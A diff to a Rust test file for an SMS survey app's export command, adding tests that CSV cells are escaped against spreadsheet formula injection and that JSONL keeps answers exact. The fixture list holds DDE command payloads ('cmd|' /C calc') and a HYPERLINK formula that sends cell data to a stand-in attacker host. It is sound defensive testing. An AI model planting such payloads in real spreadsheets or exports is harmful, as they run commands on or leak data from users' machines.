@@ -133,8 +133,8 @@ async fn survey_answers_come_out_of_the_csv_export_one_row_per_session() {
     assert_ne!(a["contact"], b["contact"]);
     let with_phones = export(&app, "park-survey", "csv", &["--include-phones"]);
     let (_, rows) = parse_csv(&with_phones);
-    assert_eq!(rows[0]["contact"], ana);
-    assert_eq!(rows[2]["contact"], cruz);
+    assert_eq!(rows[0]["contact"], format!("'{ana}"));
+    assert_eq!(rows[2]["contact"], format!("'{cruz}"));
 }
 
 #[tokio::test]
@@ -194,4 +194,113 @@ async fn a_service_request_comes_out_of_the_export_with_the_tracking_code_the_re
     let line: serde_json::Value = serde_json::from_str(jsonl.trim()).unwrap();
     assert_eq!(line["tracking_code"], code.as_str());
     assert_eq!(line["answers"]["where"]["value"], "Oak St and 3rd");
+}
+
+/// Answers that Excel, LibreOffice or Google Sheets would run as a formula, with what the CSV
+/// cell must hold instead (the answer shown as text behind a `'`).
+const FORMULAS: &[&str] = &[
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")",
+    "+1 502 555 0123",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+];
+
+#[tokio::test]
+async fn answers_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_json_stays_exact() {
+    let app = spawn_app().await;
+    for (n, attack) in FORMULAS.iter().enumerate() {
+        converse(&app, &phone(20 + n as u32), &["PARKS", "never", attack]).await;
+    }
+    // A tab or carriage return in front is kept in the raw text; spreadsheets skip it and run
+    // what follows.
+    converse(&app, &phone(40), &["PARKS", "weekly", "4", "yes", "\t=1+1"]).await;
+    converse(&app, &phone(41), &["PARKS", "weekly", "4", "yes", "\r=1+1"]).await;
+    // A plain negative number stays a number.
+    converse(&app, &phone(42), &["PARKS", "weekly", "4", "yes", "-3"]).await;
+
+    let text = export(&app, "park-survey", "csv", &[]);
+    let (_, rows) = parse_csv(&text);
+    assert_eq!(rows.len(), FORMULAS.len() + 3);
+    for (row, attack) in rows.iter().zip(FORMULAS) {
+        assert_eq!(row["why-not"], format!("'{attack}"));
+        assert_eq!(row["why-not_raw"], format!("'{attack}"));
+    }
+    let tab = &rows[FORMULAS.len()];
+    assert_eq!(tab["comments"], "'=1+1");
+    assert_eq!(tab["comments_raw"], "'\t=1+1");
+    let cr = &rows[FORMULAS.len() + 1];
+    assert_eq!(cr["comments_raw"], "'\r=1+1");
+    let negative = &rows[FORMULAS.len() + 2];
+    assert_eq!(negative["comments"], "-3");
+    // No cell of the file starts with a formula character after the quote is considered.
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    for record in reader.records() {
+        for field in record.unwrap().iter() {
+            let first = field.trim_start_matches(' ').chars().next();
+            assert!(
+                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
+                    && (!field.starts_with('-') || field == "-3"),
+                "unsafe cell {field:?}"
+            );
+        }
+    }
+
+    // JSON is for programs: every answer exactly as stored.
+    let jsonl = export(&app, "park-survey", "jsonl", &[]);
+    let lines: Vec<serde_json::Value> = jsonl
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    for (line, attack) in lines.iter().zip(FORMULAS) {
+        assert_eq!(line["answers"]["why-not"]["value"], *attack);
+        assert_eq!(line["answers"]["why-not"]["raw"], *attack);
+    }
+    assert_eq!(
+        lines[FORMULAS.len()]["answers"]["comments"]["raw"],
+        "\t=1+1"
+    );
+}
+
+#[tokio::test]
+async fn phone_numbers_in_a_csv_export_open_as_text_with_their_plus_and_every_digit() {
+    let app = spawn_app().await;
+    let me = phone(6);
+    converse(&app, &me, &["PARKS", "never", "Too far"]).await;
+    let (_, rows) = parse_csv(&export(&app, "park-survey", "csv", &["--include-phones"]));
+    assert_eq!(rows[0]["contact"], format!("'{me}"));
+    let jsonl = export(&app, "park-survey", "jsonl", &["--include-phones"]);
+    let line: serde_json::Value = serde_json::from_str(jsonl.trim()).unwrap();
+    assert_eq!(line["contact"], me.as_str());
+}
+
+#[tokio::test]
+async fn exporting_a_flow_that_does_not_exist_fails_and_names_the_flows_there_are() {
+    let app = spawn_app().await;
+    converse(&app, &phone(7), &["PARKS", "never", "Too far"]).await;
+    for format in ["csv", "jsonl"] {
+        let out = Command::new(env!("CARGO_BIN_EXE_civictext"))
+            .current_dir(app.dir.path())
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .args(["export", "--flow", "park-survy", "--format", format])
+            .args(["--database-url", &app.settings.database_url])
+            .arg("--flows")
+            .arg(app.flows_dir())
+            .output()
+            .expect("civictext runs");
+        assert!(!out.status.success(), "a mistyped flow id exported");
+        assert!(
+            out.stdout.is_empty(),
+            "{}",
+            String::from_utf8_lossy(&out.stdout)
+        );
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(err.contains("park-survy"), "{err}");
+        assert!(
+            err.contains("park-survey, pothole-report, quick-poll"),
+            "the flows are not listed: {err}"
+        );
+    }
 }
